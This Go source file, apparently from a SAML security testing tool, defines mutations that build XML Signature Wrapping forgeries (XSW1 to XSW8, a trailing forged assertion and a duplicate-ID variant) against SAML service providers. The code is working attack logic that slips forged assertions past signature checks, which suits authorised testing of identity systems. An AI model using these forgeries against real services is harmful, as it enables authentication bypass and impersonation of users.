package saml

import "github.com/beevik/etree"

// wrappingMutations are the signature wrapping attacks that SAML Raider numbers XSW1 to XSW8: the
// genuine signed element is still there and verifies, and somewhere else stands a forged one that
// a careless service provider reads. 1 and 2 wrap the response, the others the assertion.
func wrappingMutations() []Mutation {
	return []Mutation{
		{Name: "saml-xsw1", Text: "the genuine response is inside the Signature of the forged one (SAML-XSW-1)",
			after: wrapResponse(func(evil, genuine, signature *etree.Element) {
				signature.AddChild(genuine)
				insertAfterIssuer(evil, signature)
			})},
		{Name: "saml-xsw2", Text: "the genuine response is in the forged one, before its detached Signature (SAML-XSW-2)",
			after: wrapResponse(func(evil, genuine, signature *etree.Element) {
				insertAfterIssuer(evil, signature)
				evil.InsertChildAt(signature.Index(), genuine)
			})},
		{Name: "saml-xsw3", Text: "a forged assertion stands before the genuine one (SAML-XSW-3)",
			after: func(f forgery, m *message) { m.response.InsertChildAt(m.assertion.Index(), m.forged(f)) }},
		{Name: "saml-xsw4", Text: "a forged assertion is the parent of the genuine one (SAML-XSW-4)",
			after: func(f forgery, m *message) {
				evil, at := m.forged(f), m.assertion.Index()
				m.response.RemoveChild(m.assertion)
				evil.AddChild(m.assertion)
				m.response.InsertChildAt(at, evil)
			}},
		{Name: "saml-xsw5", Text: "the forged assertion has the Signature, the genuine one comes after it without (SAML-XSW-5)",
			after: func(f forgery, m *message) {
				evil := m.forged(f)
				if signature := removeSignature(m.assertion); signature != nil {
					insertAfterIssuer(evil, signature)
				}
				m.response.InsertChildAt(m.assertion.Index(), evil)
			}},
		{Name: "saml-xsw6", Text: "the genuine assertion is inside the Signature of the forged one (SAML-XSW-6)",
			after: wrapAssertion(func(evil, genuine, signature *etree.Element) {
				signature.AddChild(genuine)
				insertAfterIssuer(evil, signature)
			})},
		{Name: "saml-xsw7", Text: "a forged assertion is in Extensions, before the genuine one (SAML-XSW-7)",
			after: func(f forgery, m *message) {
				extensions := etree.NewElement("samlp:Extensions")
				extensions.AddChild(m.forged(f))
				insertAfterIssuer(m.response, extensions)
			}},
		{Name: "saml-xsw8", Text: "the genuine assertion is in an Object of the Signature of the forged one (SAML-XSW-8)",
			after: wrapAssertion(func(evil, genuine, signature *etree.Element) {
				object := signature.CreateElement(signature.Space + ":Object")
				object.AddChild(genuine)
				insertAfterIssuer(evil, signature)
			})},
		{Name: "saml-forged-last", Text: "a forged assertion stands after the genuine one (SAML-XSW-9)",
			after: func(f forgery, m *message) { m.response.AddChild(m.forged(f)) }},
		{Name: "saml-duplicate-id", Text: "a forged assertion before the genuine one has the same ID (SAML-XSW-13)",
			after: func(f forgery, m *message) {
				evil := m.forged(f)
				evil.CreateAttr("ID", m.assertion.SelectAttrValue("ID", ""))
				m.response.InsertChildAt(m.assertion.Index(), evil)
			}},
	}
}

// wrapResponse makes the response a forged one and lets place put the genuine one, unsigned, and its
// signature somewhere. Where only the assertion is signed, its signature serves.
func wrapResponse(place func(evil, genuine, signature *etree.Element)) func(forgery, *message) {
	return func(f forgery, m *message) {
		genuine := m.response
		evil := genuine.Copy()
		removeSignature(evil)
		evil.CreateAttr("ID", newID())
		assertion := evil.SelectElement("Assertion")
		removeSignature(assertion)
		assertion.CreateAttr("ID", newID())
		rename(assertion, f.stranger)
		signature := removeSignature(genuine)
		if signature == nil {
			signature = removeSignature(m.assertion)
		}
		if signature == nil {
			return // nothing was signed: there is nothing to wrap
		}
		place(evil, genuine, signature)
		m.response = evil
	}
}

// wrapAssertion does the same for the assertion.
func wrapAssertion(place func(evil, genuine, signature *etree.Element)) func(forgery, *message) {
	return func(f forgery, m *message) {
		evil, at := m.forged(f), m.assertion.Index()
		signature := removeSignature(m.assertion)
		if signature == nil {
			signature = removeSignature(m.response)
		}
		if signature == nil {
			return
		}
		m.response.RemoveChild(m.assertion)
		place(evil, m.assertion, signature)
		m.response.InsertChildAt(at, evil)
	}
}
